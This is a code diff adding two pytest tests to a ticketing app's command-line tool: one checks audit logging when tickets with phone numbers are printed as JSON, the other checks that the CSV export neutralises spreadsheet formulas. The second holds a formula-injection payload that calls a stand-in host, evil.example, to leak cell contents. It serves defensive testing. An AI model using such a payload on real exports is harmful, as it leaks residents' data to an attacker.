@@ -155,3 +155,45 @@ def test_the_sites_other_processes_hear_what_the_command_line_changes(url, db, c
     finally:
         relay.stop()
     assert heard == [((tid,), "opened"), ((tid,), "start"), ((tid,), "sweep")]
+
+
+def test_a_ticket_printed_as_json_with_phones_is_audited(url, db, capsys):
+    from sqlalchemy import select
+
+    from app.audit import BULK_READ
+    from app.models import AuditEntry
+
+    code, out, _ = run(
+        capsys, "tickets", "new", "--db", url, "--category", "SR01", "--lon", str(IN_G1[0]),
+        "--lat", str(IN_G1[1]), "--text", "漏水", "--phone", "13812345678", "--reporter", "李梅",
+    )  # fmt: skip
+    tid = out.strip()
+    run(capsys, "tickets", "show", tid, "--db", url)  # read on screen: no entry
+    run(capsys, "tickets", "show", tid, "--json", "--db", url)
+    with db.session() as session:
+        reads = session.scalars(select(AuditEntry).where(AuditEntry.action == BULK_READ)).all()
+    assert [(r.entity, r.entity_id) for r in reads] == [("ticket", int(tid))]
+    assert json.loads(reads[0].detail) == {
+        "fields": ["reporter.phone", "assignee.phone"],
+        "via": "tickets show --json",
+    }
+
+
+def test_the_notices_csv_writes_a_residents_formula_as_text(url, capsys, tmp_path):
+    import csv
+
+    reporter = '=HYPERLINK("http://evil.example/?d="&E3,"点击")'
+    code, out, err = run(
+        capsys, "tickets", "new", "--db", url, "--category", "SR01", "--lon", str(IN_G1[0]),
+        "--lat", str(IN_G1[1]), "--text", "@SUM(1+1) 路灯不亮", "--reporter", reporter, "--phone", "13812345678",
+    )  # fmt: skip
+    assert code == 0, err
+    tid = out.strip()
+    for argv in (("start",), ("handle", "--result", "+已修复"), ("verify",), ("close",)):
+        assert run(capsys, "tickets", "act", tid, *argv, "--db", url)[0] == 0
+    notices = tmp_path / "notices.csv"
+    assert run(capsys, "tickets", "notices", str(notices), "--db", url)[0] == 0
+    with notices.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert rows and all(row[1] == "'" + reporter for row in rows)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
